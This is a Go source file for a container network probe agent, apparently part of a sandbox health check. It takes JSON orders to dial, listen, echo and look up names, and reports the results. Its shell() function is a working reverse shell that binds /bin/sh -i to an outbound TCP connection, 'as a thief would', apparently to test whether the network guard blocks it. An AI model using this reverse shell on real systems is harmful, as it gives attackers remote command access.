// Package agent is the part of coi health --probe that runs inside a probe
// container: it dials, listens, asks and sends what it is told to, one JSON line
// each way, and says what came of it. It decides nothing. The host never trusts
// more of its answers than that a packet came or did not come.
package agent

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net"
	"os/exec"
	"sync"
	"syscall"
	"time"
)

// Request is one order.
type Request struct {
	Op      string `json:"op"`            // dial listen heard lookup raw shout shell tls quit
	Net     string `json:"net,omitempty"` // tcp, udp
	Addr    string `json:"addr,omitempty"`
	Name    string `json:"name,omitempty"`
	Source  string `json:"source,omitempty"`
	Payload string `json:"payload,omitempty"`
	MS      int    `json:"ms,omitempty"` // how long to try
}

// Reply is what came of it. Kind says why not: refused, timeout, unreachable,
// no such name, other.
type Reply struct {
	OK    bool     `json:"ok"`
	Kind  string   `json:"kind,omitempty"`
	Error string   `json:"error,omitempty"`
	US    int64    `json:"us"` // how long it took
	Text  []string `json:"text,omitempty"`
}

// Serve answers requests until the stream ends.
func Serve(in io.Reader, out io.Writer) error {
	a := &server{}
	lines := bufio.NewScanner(in)
	enc := json.NewEncoder(out)
	for lines.Scan() {
		var r Request
		if err := json.Unmarshal(lines.Bytes(), &r); err != nil {
			return err
		}
		if r.Op == "quit" {
			return nil
		}
		start := time.Now()
		text, err := a.do(r)
		reply := Reply{OK: err == nil, US: time.Since(start).Microseconds(), Text: text}
		if err != nil {
			reply.Kind, reply.Error = kind(err), err.Error()
		}
		if err := enc.Encode(reply); err != nil {
			return err
		}
	}
	return lines.Err()
}

type server struct {
	mu    sync.Mutex
	heard []string // "source payload" of each packet and line that came
}

func (a *server) do(r Request) ([]string, error) {
	wait := time.Duration(r.MS) * time.Millisecond
	switch r.Op {
	case "dial":
		return nil, Dial(r.Net, r.Addr, r.Payload, wait)
	case "listen":
		return nil, Listen(r.Net, r.Addr, a.note)
	case "heard":
		a.mu.Lock()
		defer a.mu.Unlock()
		return append([]string{}, a.heard...), nil
	case "lookup":
		return lookup(r, wait)
	case "raw":
		return nil, raw(r.Source, r.Addr, r.Payload)
	case "shout":
		return nil, shout(r.Name)
	case "shell":
		return nil, shell(r.Addr, wait)
	case "tls":
		return nil, handshake(r.Addr, wait)
	}
	return nil, errors.New("unknown order " + r.Op)
}

func (a *server) note(source, payload string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if len(a.heard) < 1000 {
		a.heard = append(a.heard, source+" "+payload)
	}
}

func kind(err error) string {
	var dns *net.DNSError
	switch {
	case errors.As(err, &dns) && dns.IsNotFound:
		return "no such name"
	case errors.Is(err, syscall.ECONNREFUSED):
		return "refused"
	// What the guard's reject for all but TCP arrives as.
	case errors.Is(err, syscall.EHOSTUNREACH), errors.Is(err, syscall.ENETUNREACH), errors.Is(err, syscall.EACCES), errors.Is(err, syscall.EPERM):
		return "unreachable"
	case timedOut(err):
		return "timeout"
	}
	return "other"
}

func timedOut(err error) bool {
	var t net.Error
	return errors.As(err, &t) && t.Timeout()
}

// Dial connects, sends a line and waits for the same line.
func Dial(network, addr, payload string, wait time.Duration) error {
	c, err := net.DialTimeout(network, addr, wait)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	if err := c.SetDeadline(time.Now().Add(wait)); err != nil {
		return err
	}
	if _, err := io.WriteString(c, payload+"\n"); err != nil {
		return err
	}
	got := make([]byte, len(payload)+1)
	if _, err := io.ReadFull(c, got); err != nil {
		return err
	}
	if string(got) != payload+"\n" {
		return errors.New("somebody else answered")
	}
	return nil
}

// Listen echoes what comes to addr until the program ends.
func Listen(network, addr string, note func(source, payload string)) error {
	if network == "udp" {
		c, err := net.ListenPacket("udp", addr)
		if err != nil {
			return err
		}
		go echoPackets(c, note)
		return nil
	}
	l, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go echoLines(c, note)
		}
	}()
	return nil
}

func echoPackets(c net.PacketConn, note func(source, payload string)) {
	buf := make([]byte, 1500)
	for {
		n, from, err := c.ReadFrom(buf)
		if err != nil {
			return
		}
		note(from.String(), string(buf[:n]))
		_, _ = c.WriteTo(buf[:n], from)
	}
}

// Echo gives back each line that comes over a connection, until it ends.
func Echo(c net.Conn) { echoLines(c, func(string, string) {}) }

func echoLines(c net.Conn, note func(source, payload string)) {
	defer func() { _ = c.Close() }()
	for lines := bufio.NewScanner(c); lines.Scan(); {
		note(c.RemoteAddr().String(), lines.Text())
		if _, err := io.WriteString(c, lines.Text()+"\n"); err != nil {
			return
		}
	}
}

// shell wires a shell to a connection, as a thief would.
func shell(addr string, wait time.Duration) error {
	c, err := net.DialTimeout("tcp", addr, wait)
	if err != nil {
		return err
	}
	file, err := c.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	_ = c.Close()
	ctx, cancel := context.WithTimeout(context.Background(), wait)
	defer cancel()
	cmd := exec.CommandContext(ctx, "/bin/sh", "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = file, file, file
	return cmd.Run()
}
